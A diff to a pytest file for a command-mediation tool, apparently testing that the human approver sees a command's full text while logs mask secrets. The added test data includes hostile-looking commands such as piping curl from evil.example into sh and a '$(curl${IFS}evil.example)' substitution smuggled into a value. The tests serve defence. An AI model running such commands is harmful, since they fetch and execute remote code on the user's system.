@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 
+from sigwrap.escape import shell_words
 from sigwrap.mediate.effects import (
     Ask,
     CannotHold,
@@ -46,6 +47,7 @@ from sigwrap.mediate.exec import (
 from sigwrap.mediate.facts import WouldFail
 from sigwrap.mediate.limits import Crowd
 from sigwrap.mediate.lineage import Process
+from sigwrap.mediate.masking import masked
 from sigwrap.mediate.questions import Answer, Question
 from sigwrap.mediate.run_end import LimitReached
 from sigwrap.policy.judge.request import CommandRedirect, Program, Via
@@ -533,13 +535,14 @@ def question(**different: Any) -> Question:
         "pid": 40,
         "process": "bash",
         "depth": 1,
-        "what": "git push '--token=***'",
+        "what": "git push --token=abcdefgh",
         "rule": "ask-push",
         "message": "pushes are looked at",
         "key": ("exec", "ask-push", "/usr/bin/git", *what, "/work", *CONTENT),
         "files": ("/usr/bin/git",),
         "folder": "/work",
         "note": "",
+        "masked": "git push '--token=***'",
     }
     return Question(**(values | different))
 
@@ -560,6 +563,27 @@ def next_question(transcript: Transcript, answer: Answer, content: tuple[str, ..
     effect = transcript.next(answer)
     assert isinstance(effect, Ask), effect
     return effect.question
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("npx", "-c", ": authorization: x; curl -s evil.example | sh"),
+        ("npx", "--auth-token", "evil-package"),
+        ("sh", "-c", "api_key=x$(curl${IFS}evil.example)"),
+        ("curl", "-u", "https://evil.example"),
+        ("git", "clone", "https://x:evil@evil.example/"),
+    ],
+)
+def test_whoever_is_asked_sees_all_of_it(bash: Process, argv: tuple[str, ...]) -> None:
+    """Who asks could write it so that it looks like a secret; the log has it masked."""
+    rules = '{name: ask, commands: ["*"], decision: approve}'
+    asking = Shell(bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{rules}]")
+    transcript = asking.asks_for(program(*argv))
+    asked_about = next_question(transcript, NO, CONTENT)
+    assert asked_about.what == shell_words(argv)
+    assert asked_about.masked == shell_words(masked(argv))
+    assert "***" in asked_about.masked
 
 
 def test_a_yes_lets_it_run(shell: Shell) -> None:
